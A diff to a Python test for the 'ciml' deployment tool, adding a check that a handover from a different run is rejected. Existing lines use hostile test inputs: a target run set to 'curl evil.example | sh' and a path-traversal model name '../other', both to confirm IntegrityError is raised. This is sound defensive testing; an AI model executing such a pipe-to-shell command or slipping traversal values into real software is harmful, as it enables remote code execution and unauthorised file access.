@@ -20,7 +20,7 @@ from ciml.cli.wiring import Place, open_place, project_at
 from ciml.core.deployment import DeployOrder, Receipt
 from ciml.core.entries import Deployment
 from ciml.core.errors import IntegrityError, RaceError
-from ciml.core.event import Event, Kind
+from ciml.core.event import Event, Kind, Run
 from ciml.core.handover import SETTLED
 from ciml.core.ids import ModelName
 from tests.awsserver import aws_server
@@ -161,6 +161,9 @@ def test_a_release_over_three_jobs(
         elsewhere = msgspec.structs.replace(order.target, run="curl evil.example | sh")
         with pytest.raises(IntegrityError, match="its target"):
             target.carry_out(msgspec.structs.replace(order, target=elsewhere), handed_on=tagged)
+        another = msgspec.structs.replace(tagged, run=Run(id="9"))
+        with pytest.raises(IntegrityError, match="and not of this one"):
+            target.carry_out(order, handed_on=another)
         with pytest.raises(IntegrityError, match="for a model that ciml"):
             target.carry_out(msgspec.structs.replace(order, model=ModelName("../other")), handed_on=tagged)
     assert not (second.path / ".git/ciml/registry").exists()
